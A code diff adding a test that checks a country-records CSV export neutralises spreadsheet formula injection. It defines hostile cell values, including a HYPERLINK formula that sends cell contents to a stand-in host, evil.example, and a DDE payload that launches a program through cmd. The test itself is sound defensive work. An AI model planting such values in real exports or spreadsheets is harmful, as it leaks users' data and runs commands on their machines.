@@ -88,3 +88,20 @@ def test_articles_json_has_metadata_not_text_and_validates():
     }
     assert [step["from"] for step in row["translation_chain"]] == ["vi", "pl"]
     assert "The text." not in json.dumps(data)
+
+
+def test_no_csv_cell_is_a_formula():
+    """A note or publisher a spreadsheet would run as a formula (`=HYPERLINK(...)`) is written as text ('=...)."""
+    hostile = ('=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0")
+    record = CountryRecord(
+        "PL",
+        "signed",
+        (Citation("https://press.example/a", publisher=hostile[2], accessed=date(2026, 11, 29)),),
+        place="hanoi",
+        note={"en": hostile[0], "pl": hostile[1]},
+    )
+    rows = country_rows({"PL": SimpleNamespace(code="PL", record=record)}, SITE)
+    (row,) = csv.DictReader(io.StringIO(countries_csv(rows)))
+    assert (row["note_en"], row["note_pl"], row["source_publishers"]) == tuple(f"'{text}" for text in hostile)
+    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values())
+    assert json.loads(countries_json(rows, ABOUT))["countries"][0]["note"]["en"] == hostile[0]  # the JSON as written
